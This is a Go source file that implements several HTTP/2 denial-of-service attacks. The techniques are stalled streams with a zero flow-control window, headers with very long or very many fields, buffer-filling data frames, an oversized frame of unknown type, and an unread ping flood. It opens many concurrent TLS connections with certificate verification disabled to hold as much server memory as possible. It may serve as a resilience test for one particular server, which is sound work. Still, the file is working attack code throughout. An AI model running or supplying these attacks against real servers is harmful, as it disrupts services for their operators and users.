package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"
)

// http2Attack makes a connection of HTTP/2 hold as much memory as it can. Its client grants no window, so that no
// response ends, and streams is how many requests the server allows at once.
type http2Attack struct {
	name string
	send func(framer *http2.Framer, streams uint32)
	cut  bool // whether the server ends the connection soon
}

var http2Attacks = []http2Attack{
	{"one frame of the largest size", func(framer *http2.Framer, _ uint32) {
		framer.WriteRawFrame(0xfa, 0, 0, make([]byte, 16<<10))
	}, false},
	{"stalled responses to headers of one long field", func(framer *http2.Framer, streams uint32) {
		for i := range streams {
			request(framer, i, "GET", true, "cookie", strings.Repeat("~", 7<<10))
		}
	}, false},
	{"stalled responses to headers of many fields", func(framer *http2.Framer, streams uint32) {
		var fields []string
		for i := range 200 {
			fields = append(fields, fmt.Sprintf("x%03d", i), "")
		}
		for i := range streams {
			request(framer, i, "GET", true, fields...)
		}
	}, false},
	{"content that fills every buffer", func(framer *http2.Framer, streams uint32) {
		for i := range streams {
			request(framer, i, "POST", false)
		}
		for i := range 4 * streams {
			framer.WriteData(i%streams*2+1, false, make([]byte, (64<<10-1)/4/streams))
		}
	}, false},
	{"pings whose answers are never read", func(framer *http2.Framer, _ uint32) {
		for err := error(nil); err == nil; {
			err = framer.WritePing(false, [8]byte{})
		}
	}, true},
}

// request opens the stream number i. The film is longer than every buffer.
func request(framer *http2.Framer, i uint32, method string, ends bool, fields ...string) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	pairs := append([]string{":method", method, ":scheme", "https", ":authority", attackedName, ":path", filmPath()}, fields...)
	for pair := 0; pair < len(pairs); pair += 2 {
		encoder.WriteField(hpack.HeaderField{Name: pairs[pair], Value: pairs[pair+1], Sensitive: true}) // kept out of the table
	}
	framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block.Bytes(), EndStream: ends, EndHeaders: true})
}

// dialHTTP2 opens a connection that grants no window, and returns how many streams the server allows.
func dialHTTP2(ctx context.Context, addr string) (framer *http2.Framer, streams uint32, err error) {
	dialer := tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: &tls.Config{ServerName: attackedName, InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	conn, err := dialer.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, 0, err
	}
	context.AfterFunc(ctx, func() { conn.(*tls.Conn).NetConn().Close() })
	io.WriteString(conn, http2.ClientPreface)
	framer = http2.NewFramer(conn, conn)
	framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	frame, err := framer.ReadFrame()
	settings, ok := frame.(*http2.SettingsFrame)
	if !ok {
		return nil, 0, fmt.Errorf("%v, %v, want SETTINGS", frame, err)
	}
	framer.WriteSettingsAck()
	streams, _ = settings.Value(http2.SettingMaxConcurrentStreams)
	return framer, streams, nil
}

// start opens connections, several at a time, and attacks with each until ctx ends. The server may refuse some.
func (a http2Attack) start(ctx context.Context, addr string, connections int) {
	var dialing errgroup.Group
	dialing.SetLimit(16)
	for range connections {
		dialing.Go(func() error {
			framer, streams, err := dialHTTP2(ctx, addr)
			if err == nil {
				go a.send(framer, streams)
			}
			return nil
		})
	}
	dialing.Wait()
}
